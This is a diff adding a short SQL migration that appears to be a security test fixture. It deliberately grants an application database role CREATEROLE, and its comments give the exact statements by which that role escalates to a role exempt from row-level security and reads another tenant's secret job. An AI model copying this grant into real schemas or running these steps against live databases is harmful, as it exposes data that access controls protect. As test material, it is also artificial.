@@ -1,0 +1,11 @@
+-- The application may create roles, and on this version that means it can make itself a member of the role
+-- that is not bound by row security.
+-- about: hf_runnerly_app, hf_runnerly_robot, jobs
+-- as: hf_runnerly_app
+-- exploit: SET request.jwt.claims = '{"sub":"a0000000-0000-4000-8000-000000000001","role":"authenticated"}';
+-- exploit: GRANT hf_runnerly_robot TO hf_runnerly_app;
+-- exploit: SET ROLE hf_runnerly_robot;
+-- exploit: SELECT name FROM ci.jobs;
+-- shows: Road-secret job
+-- Self-hosted runners get a login each, made by the application.
+ALTER ROLE hf_runnerly_app CREATEROLE;
